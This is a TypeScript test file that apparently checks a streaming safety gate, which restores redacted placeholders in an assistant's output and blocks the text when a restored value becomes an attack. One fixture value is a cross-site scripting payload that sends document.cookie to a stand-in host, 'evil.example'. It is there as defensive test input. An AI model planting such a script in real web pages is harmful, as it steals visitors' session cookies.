import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { decideFindings } from '@csg/shared/decision';
import { compileRuleset, scan } from '@csg/shared/detection';
import { createRestore, RestoringGate } from '../../../shared/streaming/restore.ts';
import { createTextGates } from '../../../shared/streaming/text-gates.ts';

const RULESET = compileRuleset({ useCase: 'default', strictness: 'moderate', policies: [] });
const EMAIL = '[EMAIL_7K3M9QWX]';
const SCRIPT = '[NAME_ABCDEFGH]';
const VALUES = new Map([
  [EMAIL, { value: 'anna.svensson@example.com', type: 'email' }],
  [SCRIPT, { value: '<script>fetch("https://evil.example/?c=" + document.cookie)</script>', type: 'name' }],
]);
const restore = createRestore({ values: VALUES, secretTools: {} }, []);
const gateOf = () =>
  new RestoringGate(
    {
      sent: createTextGates(RULESET).open('assistant'),
      restored: createTextGates(RULESET, { isAttacksOnly: true }).open('assistant'),
    },
    restore,
    false,
  );
const PROSE = 'The report for the second quarter is ready, and my team has read it in full. ';

/** The released part of a text that arrives one character at a time, as the client reads it. */
function leaves(text: string): string[] {
  const gate = gateOf();
  const sent: string[] = [];
  for (let end = 1; end <= text.length; end++) {
    const released = gate.push(text[end - 1]!);
    let seen = '';
    let at = 0;
    for (const { start, end: until, text: value } of gate.changesOf(0, released)) {
      seen += text.slice(at, start) + value;
      at = until;
    }
    sent.push(seen + text.slice(at, released));
  }
  return sent;
}

describe('a text in which values are restored as it arrives', () => {
  test('is released with them a few words later, and never with part of a placeholder', () => {
    const text = `${PROSE}I wrote to ${EMAIL} this morning. ${PROSE.repeat(4)}`;
    const sent = leaves(text);
    assert.ok(sent.at(-1)!.includes('I wrote to anna.svensson@example.com this morning. The report'));
    assert.ok(sent.every((seen) => !/EMAIL|\[/.test(seen)));
    const whole = text.indexOf(EMAIL) + EMAIL.length;
    const first = sent.findIndex((seen) => seen.includes('anna.svensson@example.com'));
    assert.ok(first - whole < 220, `${first - whole} characters later`);
  });

  test('is held from where a restored value makes it an attack, though its placeholder did not', () => {
    const text = `${PROSE.repeat(3)}Her name is ${SCRIPT} and ${PROSE.repeat(20)}`;
    const whole = text.replace(SCRIPT, VALUES.get(SCRIPT)!.value);
    const blocked = (one: string) =>
      decideFindings(scan([{ path: '', role: 'assistant', text: one }], RULESET, 'output'), RULESET, 'output')
        .decision;
    assert.deepEqual([blocked(text), blocked(whole)], ['allow', 'block']);
    const seen = leaves(text).at(-1)!;
    assert.ok(seen.startsWith(PROSE) && !seen.includes('<script') && !seen.includes('NAME_'), seen);
  });
});
